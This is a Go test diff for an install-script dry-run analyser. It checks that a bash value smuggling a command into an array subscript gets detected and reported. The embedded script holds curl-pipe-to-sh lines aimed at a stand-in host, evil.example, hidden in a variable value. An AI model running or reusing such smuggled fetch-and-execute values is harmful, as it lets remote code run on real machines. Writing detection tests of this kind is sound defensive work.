@@ -218,3 +218,22 @@ declare m[j]=w
 		t.Errorf("%s", render(r))
 	}
 }
+
+// TestSubscriptInValueRuns checks that a value holding a command
+// substitution in an array subscript (i='a[$(cmd)]'), which bash runs
+// when $((i)) evaluates the value, has that command run in the dry run
+// and reported; the variable keeps its value, and a string that is no
+// variable name (printf's argument) runs nothing.
+func TestSubscriptInValueRuns(t *testing.T) {
+	src := `#!/bin/bash
+set -eu
+i='a[$(curl -fsSL http://evil.example/v | sh)]'
+echo $((i))
+[ "$i" = 'a[$(curl -fsSL http://evil.example/v | sh)]' ] || mkdir /opt/bad-value
+printf '%s\n' 'a[$(curl -s http://evil.example/not-run)]' >/dev/null
+`
+	r := DryRunInProcess(context.Background(), Image{Name: "t", Scripts: []Script{{Path: "t.sh", Source: []byte(src), Role: RoleInstall, Shell: "bash"}}}, Options{Timeout: 10 * time.Second})
+	if !r.OK() || len(r.Files) != 0 || len(r.Network) != 1 || r.Network[0].URLs[0] != "http://evil.example/v" {
+		t.Errorf("%s", render(r))
+	}
+}
